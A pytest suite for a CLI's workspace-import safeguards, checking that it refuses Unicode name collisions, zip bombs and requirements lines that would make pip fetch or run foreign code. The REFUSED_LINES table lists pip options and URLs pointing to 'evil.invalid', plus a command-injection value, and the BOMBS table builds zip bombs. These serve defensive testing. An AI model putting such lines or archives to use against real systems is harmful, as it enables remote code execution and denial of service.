"""Archives that are not what they claim: Unicode name collisions, spread-out zip bombs, requirements
lines that would make pip run foreign code, and src/ code announced before anything runs it."""
from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from fx_cli.archive.safezip import extract
from fx_cli.errors import FxError
from fx_cli.workspace.reqlines import check_lines
from tests.archive_helpers import build_zip, info, replace_member, snapshot, with_extra, zip_members
from tests.conftest import run_fx


@pytest.fixture(scope="module")
def good_archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("origin")
    with pytest.MonkeyPatch.context() as mp:
        assert run_fx("workspace", "create", "--prefix", str(root / "ws"), "--template", "numpy/synthetic").exit_code == 0
        mp.chdir(root / "ws")
        assert run_fx("plan", "initialize", "-a", "localhost").exit_code == 0
        res = run_fx("workspace", "export")
        assert res.exit_code == 0, res.all
    return root / "ws" / "ws.zip"


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    where = tmp_path / "site"
    where.mkdir()
    monkeypatch.chdir(where)
    return where


def _refused(archive: Path, root: Path, expected: str) -> None:
    before = snapshot(root)
    res = run_fx("workspace", "import", "--archive", str(archive), "--prefix", "target", "-s")
    assert res.exit_code == 1, res.all
    assert expected in res.stderr, res.stderr
    assert "Traceback" not in res.all
    assert snapshot(root) == before


# Pairs of names that are one file on macOS (canonical normalisation, case-insensitive) or after NFKC.
COLLISIONS = {
    "NFC vs NFD": ("src/caf\u00e9.py", "src/cafe\u0301.py"),
    "fullwidth letter (NFKC)": ("src/model.py", "src/\uff4dodel.py"),
    "ligature (NFKC)": ("src/file.py", "src/\ufb01le.py"),
    "sharp s casefold": ("src/stra\u00dfe.py", "src/STRASSE.py"),
    "Kelvin sign": ("src/k.py", "src/\u212a.py"),
    "NFD folder vs NFC file": ("src/caf\u00e9/x.py", "src/cafe\u0301"),
}


@pytest.mark.parametrize("case", sorted(COLLISIONS))
def test_names_equal_after_unicode_folding_are_refused(case, good_archive, site, tmp_path):
    first, second = COLLISIONS[case]
    hostile = with_extra(good_archive, tmp_path / "hostile.zip", [(info(first), b"a"), (info(second), b"b")])
    _refused(hostile, tmp_path, "refused")


@pytest.mark.parametrize("case", sorted(COLLISIONS))
def test_safezip_alone_refuses_unicode_collisions(case, tmp_path):
    first, second = COLLISIONS[case]
    archive = build_zip(tmp_path / "p.zip", [(info(first), b"a"), (info(second), b"b")])
    with pytest.raises(FxError, match="Unicode form|needs it to be a folder"):
        extract(archive, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_distinct_unicode_names_still_extract(tmp_path):
    archive = build_zip(tmp_path / "p.zip", [(info("src/caf\u00e9.py"), b"a"), (info("src/cafe.py"), b"b"),
                                             (info("src/\u00fcber.py"), b"c")])
    assert len(extract(archive, tmp_path / "out")) == 3


BOMBS = {
    # Each member stays at or below 1 MiB (the per-member ratio check's floor): only the total shows them.
    "many small zero members": [(f"src/z{i}.bin", b"\0" * (64 * 1024)) for i in range(64)],
    "few members just under 1 MiB": [(f"src/z{i}.bin", b"\0" * (1024 * 1024)) for i in range(6)],
    "many members just under the per-member ratio": [(f"src/r{i}.bin", b"ab" * (512 * 1024)) for i in range(4)],
}


@pytest.mark.parametrize("case", sorted(BOMBS))
def test_members_that_expand_too_much_in_total_are_refused(case, good_archive, site, tmp_path):
    extra = [(info(name), data) for name, data in BOMBS[case]]
    bomb = with_extra(good_archive, tmp_path / "bomb.zip", extra)
    total = sum(len(d) for _, d in BOMBS[case])
    assert bomb.stat().st_size * 200 < total
    _refused(bomb, tmp_path, "in total")


def test_incompressible_members_of_the_same_size_are_accepted(tmp_path):
    extra = [(info(f"src/n{i}.bin"), os.urandom(256 * 1024)) for i in range(8)]
    archive = build_zip(tmp_path / "ok.zip", extra)
    assert len(extract(archive, tmp_path / "out")) == 8


REFUSED_LINES = {
    "./localpkg": "local path",
    "../elsewhere/pkg": "local path",
    "/abs/path/to/pkg": "local path",
    "~/pkg": "local path",
    "dist/pkg-1.0-py3-none-any.whl": "local path",
    "-e .": "pip option",
    "--editable=./src": "pip option",
    "-i https://evil.invalid/simple": "pip option",
    "--index-url=https://evil.invalid/simple": "pip option",
    "--extra-index-url https://evil.invalid/simple": "pip option",
    "-f /tmp/wheels": "pip option",
    "--trusted-host evil.invalid": "pip option",
    "-r other.txt": "pip option",
    "-c constraints.txt": "pip option",
    "git+https://evil.invalid/x.git": "URL",
    "https://evil.invalid/x-1.0.tar.gz": "URL",
    "x @ file:///tmp/x": "URL",
    "x@ git+ssh://git@evil.invalid/x": "URL",
    "numpy==${EVIL_VERSION}": "environment variable",
    "numpy \\": "line continuation",
    "numpy --install-option=--prefix=/tmp": "pip option",
    "file:src": "not a plain",
    "numpy>=1;os.system('x')|x": "not a plain",
}


@pytest.mark.parametrize("line", sorted(REFUSED_LINES))
def test_requirement_lines_that_run_or_fetch_code_are_refused(line):
    accepted, refused = check_lines(f"numpy>=1\n{line}\n")
    assert accepted == ["numpy>=1"]
    assert [r.number for r in refused] == [2]
    assert REFUSED_LINES[line] in refused[0].why


@pytest.mark.parametrize("line, plain", [
    ("numpy>=1.2", "numpy>=1.2"),
    ("keras[tf]==3.0 ; python_version > '3.8'", "keras[tf]==3.0 ; python_version > '3.8'"),
    ("Tensorflow_CPU==2.21; sys_platform == \"linux\" and python_version >= \"3.9\"",
     "Tensorflow_CPU==2.21; sys_platform == \"linux\" and python_version >= \"3.9\""),
    ("scikit-learn>=1.0,<2  # ML", "scikit-learn>=1.0,<2"),
    ("src", "src"),
])
def test_plain_requirement_lines_pass(line, plain):
    assert check_lines(f"# comment\n\n{line}\n") == ([plain], [])


def _evil_package(marker: Path) -> bytes:
    return (f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n"
            "from setuptools import setup\nsetup(name='evil', version='1')\n").encode()


@pytest.mark.parametrize("line", ["./src", "src/", "-e ./src", "file:src", "evil @ file://{src}"])
def test_import_install_never_runs_a_local_packages_setup_code(line, good_archive, site, tmp_path):
    marker = tmp_path / "setup_ran"
    req = line.format(src=site / "target" / "src")
    hostile = replace_member(good_archive, tmp_path / "evil.zip", "requirements.txt", f"numpy\n{req}\n".encode())
    hostile = with_extra(hostile, tmp_path / "evil2.zip", [(info("src/setup.py"), _evil_package(marker))])
    res = run_fx("workspace", "import", "--archive", str(hostile), "--prefix", "target", "--install",
                 "--pip-arg=--no-index")
    assert res.exit_code == 1, res.all
    assert "refused to install" in res.stderr and "line 2" in res.stderr
    assert "not plain package requirements" in res.stderr  # also warned about at import
    assert "pip:" not in res.stderr  # pip never started
    assert not marker.exists()
    assert Path("target/plan/plan.yaml").is_file()  # the import stands; only the install was refused


def test_a_bare_name_never_resolves_to_a_workspace_folder(good_archive, site, tmp_path):
    """pip treats a bare name that is an existing folder with setup.py as a local path; pip runs elsewhere."""
    marker = tmp_path / "setup_ran"
    hostile = replace_member(good_archive, tmp_path / "evil.zip", "requirements.txt", b"src\n")
    hostile = with_extra(hostile, tmp_path / "evil2.zip", [(info("src/setup.py"), _evil_package(marker))])
    res = run_fx("workspace", "import", "--archive", str(hostile), "--prefix", "target", "--install",
                 "--pip-arg=--no-index")
    assert res.exit_code == 1, res.all
    assert "pip could not install" in res.stderr
    assert not marker.exists()


def test_import_lists_src_files_with_hashes_before_anything_runs(good_archive, site):
    res = run_fx("workspace", "import", "--archive", str(good_archive), "--prefix", "target", "-s")
    assert res.exit_code == 0, res.all
    src_files = sorted(p for p in Path("target/src").rglob("*") if p.is_file())
    assert src_files
    assert "code that will run on this host" in res.output
    for path in src_files:
        sha = hashlib.sha256(path.read_bytes()).hexdigest()
        assert f"{sha}  {path.relative_to('target').as_posix()}" in res.output
    assert "src/ digest" in res.output
    assert res.output.index("code that will run on this host") < res.output.index("requirements not installed")


def test_src_digest_changes_when_one_byte_of_code_changes(good_archive, site, tmp_path):
    members = zip_members(good_archive)
    name = next(n for n in sorted(members) if n.startswith("src/") and n.endswith(".py"))
    changed = replace_member(good_archive, tmp_path / "changed.zip", name, members[name] + b"\n# changed\n")
    digests = []
    for archive, prefix in ((good_archive, "a"), (changed, "b")):
        res = run_fx("workspace", "import", "--archive", str(archive), "--prefix", prefix, "-s")
        assert res.exit_code == 0, res.all
        digests.append(next(line for line in res.output.splitlines() if "src/ digest" in line))
    assert digests[0] != digests[1]

